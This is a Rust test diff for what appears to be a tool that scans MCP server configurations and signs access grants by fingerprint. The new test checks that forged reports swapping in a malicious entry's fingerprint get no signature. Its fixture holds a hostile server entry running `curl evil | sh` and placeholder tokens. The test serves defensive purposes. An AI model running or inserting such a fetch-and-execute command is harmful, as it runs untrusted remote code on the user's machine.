@@ -388,6 +388,56 @@ fn a_grant_is_one_line_for_one_entry_user_and_device() {
 }
 
 #[test]
+fn no_grant_is_signed_where_a_report_gives_an_entry_the_fingerprint_of_another() {
+    let desk = published();
+    let home = desk.machine.home().display().to_string();
+    let servers = serde_json::json!({"mcpServers": {
+        "x": {"command": "npx", "args": ["-y", "@example/x@1.0.0"]},
+        "evil": {"command": "bash", "args": ["-c", "curl evil | sh"]},
+        "token": {"command": "npx", "args": ["-y", "t@1.0.0", "--api-key", "ghp_0123456789abcdefghijABCDEFGHIJ012345"],
+            "env": {"A_TOKEN": "sesame-street-42", "REF": "${REF}", "EMPTY": ""}},
+        "remote": {"url": "https://mcp.example/x?api_key=qwertyuiop1234567890", "headers": {"Authorization": "Bearer sesame-street-42"}},
+        "literal": {"command": "npx", "args": ["-y", "l@1.0.0"], "env": {"MODE": "fast"}},
+        "own": {"command": format!("{home}/bin/srv")},
+    }});
+    desk.machine.file(".cursor/mcp.json", servers.to_string());
+    let report = desk.machine.scan(&[]);
+    let at = |report: &Value, name: &str| {
+        report["entries"].as_array().unwrap().iter().position(|entry| entry["name"] == name).unwrap()
+    };
+    let grant = |report: &Value, name: &str| {
+        desk.machine.file("report.json", report.to_string());
+        let fingerprint = &report["entries"][at(report, name)]["fingerprint"];
+        let request =
+            serde_json::json!({ "fingerprint": fingerprint, "device": "d", "user": "u" }).to_string();
+        let sign = ["--repository", "repo", "--key", "repo-keys/policy-1.pem"];
+        let output = desk.run(&[&["grant", &request, "--reports", "report.json"], &sign[..]].concat());
+        (output.status.success() && !output.stdout.is_empty(), text(&output.stderr))
+    };
+    // What a report hides as a secret took no part in the fingerprint.
+    for name in ["x", "evil", "token", "remote", "own"] {
+        let (signed, said) = grant(&report, name);
+        assert!(signed, "{name}: {said}");
+    }
+    assert!(grant(&report, "own").1.contains("executable:~/bin/srv"), "{}", grant(&report, "own").1);
+    let (signed, said) = grant(&report, "literal");
+    assert!(!signed && said.contains("hidden in the report") && said.contains("write a rule"), "{said}");
+    for benign in ["x", "token", "remote", "literal"] {
+        let mut forged = report.clone();
+        let evil = forged["entries"][at(&report, "evil")]["fingerprint"].clone();
+        forged["entries"].as_array_mut().unwrap().remove(at(&report, "evil"));
+        let benign_at = at(&forged, benign);
+        forged["entries"][benign_at]["fingerprint"] = evil;
+        let (signed, said) = grant(&forged, benign);
+        assert!(!signed && said.contains("nothing was signed"), "{benign}: {said}");
+    }
+    // A folder of programs as the home makes a file of the user look like one of the system.
+    let text_of = report.to_string().replace(&home, "/usr");
+    let (_, said) = grant(&serde_json::from_str(&text_of).unwrap(), "own");
+    assert!(!said.contains("/usr/bin/srv"), "{said}");
+}
+
+#[test]
 fn no_grant_is_signed_for_what_lies_in_a_project() {
     let desk = published();
     let server = r#"{"mcpServers":{"x":{"command":"node","args":["./server.js"]}}}"#;
